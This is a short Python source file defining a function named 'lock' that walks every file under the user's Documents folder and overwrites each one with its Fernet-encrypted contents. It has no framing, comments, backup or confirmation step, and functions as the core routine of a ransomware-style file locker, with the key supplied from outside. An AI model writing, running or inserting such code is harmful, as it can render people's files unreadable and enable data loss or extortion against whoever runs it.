import os

from cryptography.fernet import Fernet


def lock(key):
    for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
        for name in names:
            path = os.path.join(folder, name)
            with open(path, "rb") as file:
                plain = file.read()
            with open(path, "wb") as file:
                file.write(Fernet(key).encrypt(plain))
